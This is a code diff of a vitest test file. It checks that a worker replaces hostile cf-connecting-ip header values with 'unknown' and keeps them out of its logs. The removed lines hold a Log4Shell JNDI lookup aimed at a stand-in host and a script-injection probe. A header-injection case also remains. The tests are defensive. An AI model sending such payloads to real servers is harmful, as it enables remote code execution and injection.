@@ -4,6 +4,7 @@
  * The runtime refusing the request outright (400, 431) is fine too.
  */
 import { describe, expect, inject, it } from 'vitest'
+import { SENDABLE_NOT_CLIENT_ADDRESSES } from '../../context/helpers/client-address-cases'
 import { WEBSOCKET_ENDPOINTS } from '../../echo/helpers/websocket-endpoints'
 import { logMark, logSince } from '../helpers/worker-log'
 import { itWithCurl } from './helpers/cli-clients'
@@ -31,32 +32,20 @@ async function rawPost(url: string, headerLines: string, line: string) {
 }
 
 describe('hostile cf-connecting-ip values', () => {
-  const notIps = [
-    'not-an-ip',
-    '203.0.113.5, 198.51.100.1',
-    '999.1.1.1',
-    'fe80::1%eth0',
-    '<script>alert(1)</script>',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a Log4Shell probe
-    '${jndi:ldap://evil.example/a}',
-    `203.0.113.5${'a'.repeat(TEN_KB)}`,
-    '7'.repeat(TEN_KB),
-  ]
-  itWithCurl.each(notIps.map((value, i) => [value.slice(0, 40), value, i] as const))(
-    'replaces %j with unknown in the goodbye and the log (curl)',
-    async (_, value, i) => {
-      const since = logMark()
-      const line = lineOfLength(300 + i)
-      const curl = curlSession(`${inject('workerUrl')}/echo`, value)
-      curl.write(`${line}\n`)
-      const { exitCode, stdout } = await curl.end()
-      expect(exitCode).toBe(0)
-      expect(stdout.toString('utf8')).toBe(`${line}Good bye, client @ unknown\n`)
-      const logs = await waitForSessionLogs(since, 1, (log) => log.bytes === line.length)
-      expect(logs).toMatchObject([{ transport: 'http', client: 'unknown', end: 'blank-line' }])
-      expect(logSince(since)).not.toContain(value)
-    }
-  )
+  itWithCurl.each(
+    SENDABLE_NOT_CLIENT_ADDRESSES.map(([name, value], i) => [name, value, i] as const)
+  )('replaces %s with unknown in the goodbye and the log (curl)', async (_, value, i) => {
+    const since = logMark()
+    const line = lineOfLength(300 + i)
+    const curl = curlSession(`${inject('workerUrl')}/echo`, value)
+    curl.write(`${line}\n`)
+    const { exitCode, stdout } = await curl.end()
+    expect(exitCode).toBe(0)
+    expect(stdout.toString('utf8')).toBe(`${line}Good bye, client @ unknown\n`)
+    const logs = await waitForSessionLogs(since, 1, (log) => log.bytes === line.length)
+    expect(logs).toMatchObject([{ transport: 'http', client: 'unknown', end: 'blank-line' }])
+    expect(logSince(since)).not.toContain(value)
+  })
 
   const lineBreaking = [
     ['a folded continuation line', 'cf-connecting-ip: 203.0.113.7\r\n x-injected-marker\r\n'],
